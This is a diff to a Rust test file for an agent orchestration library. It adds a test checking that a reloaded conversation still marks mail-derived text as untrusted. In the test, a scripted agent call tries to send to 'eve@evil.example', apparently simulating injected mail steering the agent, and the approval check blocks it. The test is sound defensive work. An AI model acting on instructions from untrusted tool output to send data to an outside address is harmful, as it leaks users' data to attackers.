@@ -13,8 +13,8 @@ use toolwright_module::untrusted::{END, START};
 use toolwright_module::{Context, Effect, Error, Message, Reply, Request, Tool, ToolCall, from_fn};
 use toolwright_orchestrator::perform::{Record, Replay, with_performer};
 use toolwright_orchestrator::{
-    Agent, ApprovalPolicy, CallCheck, CallDecision, CallVerdict, CheckCall, Limits, Run, RunState,
-    StepKind, StepResult, Task,
+    Agent, ApprovalPolicy, CallCheck, CallDecision, CallVerdict, CheckCall, Conversation, Limits,
+    Run, RunState, StepKind, StepResult, Task,
 };
 
 use crate::support::{Log, Look, agent, call, calls, look, show, soon, tool};
@@ -323,6 +323,24 @@ async fn the_history_of_a_task_counts_also_after_an_edit_of_what_is_sent() {
     agent.drive(&mut run, &questions.context(Decision::deny("No."))).await.unwrap();
     assert!(!asked.requests()[0].messages.iter().any(|said| matches!(**said, Message::Tool(_))));
     assert_eq!((log.entries().len(), questions.reasons().len()), (0, 1));
+}
+
+#[tokio::test]
+async fn the_next_run_of_a_stored_conversation_knows_the_text_of_strangers() {
+    let log = Log::default();
+    let (first, _) = agent([mail()], [calls([("1", "mail", "x")]), Reply::text("ok")]);
+    let finished = first.run("Go.", &soon()).await.unwrap();
+    let stored = serde_json::to_string(&finished.conversation()).unwrap();
+    let conversation: Conversation = serde_json::from_str(&stored).unwrap();
+    // The next agent has not the tool that read the mail.
+    let said = [calls([("2", "send", "eve@evil.example")]), Reply::text("ok")];
+    let (next, _) = agent([send(&log)], said);
+    let next = next.with_approval(quoting()).unwrap();
+    let questions = Questions::default();
+    let task = Task::new("And now send.").with_conversation(conversation);
+    next.run(task, &questions.context(Decision::deny("No."))).await.unwrap();
+    assert_eq!(log.entries(), [""; 0]);
+    assert_eq!(questions.reasons(), ["its argument `place` is quoted from the result of `mail`"]);
 }
 
 #[tokio::test]
